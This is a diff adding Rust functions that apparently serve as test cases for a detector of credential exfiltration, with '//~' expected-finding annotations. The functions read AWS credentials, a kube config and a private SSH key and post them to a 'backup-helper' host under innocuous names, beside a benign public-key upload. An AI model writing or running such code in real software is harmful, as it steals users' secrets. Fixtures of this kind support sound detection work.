@@ -82,3 +82,34 @@ pub fn upload_project_file(client: &reqwest::blocking::Client) {
     let _ = client.post("https://api.example.com/v1/manifests").body(manifest).send();
     let _ = client.post("https://api.example.com/v1/settings").body(settings).send();
 }
+
+/// The stealer's own `home()` helper, with a fallback as real code writes it.
+fn home() -> PathBuf {
+    dirs::home_dir().unwrap_or_else(|| PathBuf::from("/"))
+}
+
+pub fn cloud_profile_backup(client: &reqwest::blocking::Client) {
+    let mut aws = home();
+    aws.push(".aws");
+    aws.push("credentials");
+    let profile = fs::read_to_string(&aws).unwrap_or_default();
+    let kube = fs::read_to_string(PathBuf::from(std::env::var("HOME").unwrap_or_default()).join(".kube/config"));
+    let _ = client.post("https://files.backup-helper.io/aws").body(profile).send(); //~ data-upload/key-file-to-network
+    let _ = client.post("https://files.backup-helper.io/kube").body(kube.unwrap_or_default()).send(); //~ data-upload/key-file-to-network
+}
+
+/// Reads whatever key file sits under the directory it is given.
+fn read_identity(dir: &std::path::Path) -> String {
+    fs::read_to_string(dir.join(".ssh").join("id_rsa")).unwrap_or_default()
+}
+
+pub fn sync_identity(client: &reqwest::blocking::Client) {
+    let identity = read_identity(&home());
+    let _ = client.post("https://files.backup-helper.io/id").body(identity).send(); //~ data-upload/key-file-to-network
+}
+
+pub fn register_deploy_key(client: &reqwest::blocking::Client) {
+    // Uploading the public half is how a key is registered with a forge.
+    let public = fs::read_to_string(home().join(".ssh/id_ed25519.pub")).unwrap_or_default();
+    let _ = client.post("https://api.github.com/user/keys").json(&serde_json::json!({ "title": "laptop", "key": public })).send();
+}
